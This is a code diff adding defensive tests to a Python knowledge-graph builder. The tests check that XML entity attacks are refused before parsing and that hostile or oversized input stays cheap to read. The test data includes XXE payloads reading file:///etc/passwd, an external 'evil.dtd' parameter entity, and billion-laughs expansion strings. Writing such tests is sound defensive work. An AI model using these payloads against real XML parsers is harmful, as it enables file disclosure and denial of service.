@@ -4,18 +4,22 @@ in one `InputError`, never in another exception, and hostile pages stay cheap to
 from __future__ import annotations
 
 import json
+import os
+import re
 import resource
 import tempfile
 import time
 from pathlib import Path
 
+import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
 from kgbuild.errors import InputError
 from kgbuild.read import read_documents
 
-FUZZ = settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+# 200 examples per test keeps CI short; KGBUILD_FUZZ_EXAMPLES=5000 for a longer local run.
+FUZZ = settings(max_examples=int(os.environ.get("KGBUILD_FUZZ_EXAMPLES", 200)), deadline=None, suppress_health_check=[HealthCheck.too_slow])
 ARTICLE = "Майор Сергей Котов служил в Омске. В 2001 году он возглавил отдел охраны колонии."
 
 
@@ -150,3 +154,87 @@ def test_very_deep_nesting_is_read_or_refused_quickly(tmp_path):
         assert "deep.html: no article text found" in str(result)
     else:
         assert "Сергей Котов" in result[0].text
+
+
+# --- XML before any parser sees it -----------------------------------------------------------
+
+RDF_XML = ('<?xml version="1.0"?>\n{doctype}\n<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"'
+           ' xmlns:ex="http://example.org/"><rdf:Description rdf:about="{about}"><ex:p>{value}</ex:p>'
+           '</rdf:Description></rdf:RDF>')
+
+
+def rdf_xml(doctype="", about="http://example.org/a", value="x") -> str:
+    return RDF_XML.format(doctype=doctype, about=about, value=value)
+
+
+@pytest.mark.parametrize("document, problem", [
+    (rdf_xml(billion_laughs("rdf:RDF"), value="&lol9;"), "entity 'lol1' refers to entity 'lol'"),
+    (rdf_xml('<!DOCTYPE rdf:RDF [<!ENTITY big "' + "x" * 50_000 + '">]>', value="&big;" * 100),
+     "would expand to 5,000,000 characters"),
+    (rdf_xml('<!DOCTYPE rdf:RDF [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', value="&xxe;"),
+     "external XML entity 'xxe'"),
+    (rdf_xml('<!DOCTYPE rdf:RDF [<!ENTITY % p SYSTEM "http://example.org/evil.dtd"> %p;]>'),
+     "parameter entity %p"),
+    (rdf_xml('<!DOCTYPE rdf:RDF [<!ENTITY a "]>"><!ENTITY b SYSTEM "file:///etc/passwd">]>', value="&b;"),
+     "external XML entity 'b'"),
+])
+def test_dangerous_xml_entities_are_refused_before_parsing(document, problem):
+    from kgbuild.readers import check_xml_entities
+
+    started = time.perf_counter()
+    with pytest.raises(InputError, match=re.escape(problem)):
+        check_xml_entities(document.encode(), "ontology.rdf")
+    assert time.perf_counter() - started < 1
+
+
+def test_flat_namespace_entities_of_ontology_editors_are_allowed():
+    from rdflib import Graph, URIRef
+
+    from kgbuild.readers import check_xml_entities
+
+    document = rdf_xml('<!DOCTYPE rdf:RDF [\n  <!ENTITY ex "http://example.org/" >\n'
+                       "  <!ENTITY owl 'http://www.w3.org/2002/07/owl#' >\n]>", about="&ex;a")
+    check_xml_entities(document.encode(), "ontology.owl")
+    graph = Graph().parse(data=document, format="xml")
+    assert (URIRef("http://example.org/a"), None, None) in graph
+
+
+@FUZZ
+@given(data=st.one_of(st.binary(max_size=500), st.lists(st.sampled_from(
+    ["<!DOCTYPE x [", "]>", "<!ENTITY ", "% ", "a ", "b ", '"', "'", "&a;", "&b;", "SYSTEM ", ">", "x"]),
+    max_size=30).map(lambda parts: "".join(parts).encode())))
+def test_xml_guard_on_any_bytes(data):
+    from kgbuild.readers import check_xml_entities
+
+    try:
+        check_xml_entities(data, "f.rdf")
+    except InputError as error:
+        assert str(error).startswith("f.rdf: ")
+
+
+@pytest.mark.parametrize("name, data", [
+    ("long.html", b"<html><body><p>" + "слово ".encode() * 800_000 + b"</p></body></html>"),
+    ("long.txt", "слово ".encode() * 800_000),
+    ("entities.rdf", b'<!ENTITY a "' * 200_000),
+    ("comments.txt", ("Комментарии\n" + ARTICLE + "\n").encode() * 100_000),
+])
+def test_megabytes_of_hostile_text_cost_linear_time(name, data):
+    from kgbuild.readers import check_xml_entities
+
+    started = time.perf_counter()
+    if name.endswith(".rdf"):
+        with pytest.raises(InputError):
+            check_xml_entities(data, name)
+    else:
+        read_files({name: data})
+    assert time.perf_counter() - started < 30
+
+
+def test_run_of_html_comments_before_the_text_is_cheap(tmp_path):
+    # Regression: a pattern for "comments, then <html>" took 8 s on 24 comments, doubling each.
+    started = time.perf_counter()
+    read_files({"a.txt": ("<!---->" * 500 + ARTICLE).encode()})
+    [page] = read_files({"b.txt": ("<!-- saved -->\n<!DOCTYPE html><html><body><article><p>" + ARTICLE
+                                   + "</p></article></body></html>").encode()})
+    assert time.perf_counter() - started < 5
+    assert page.text == ARTICLE + "\n"
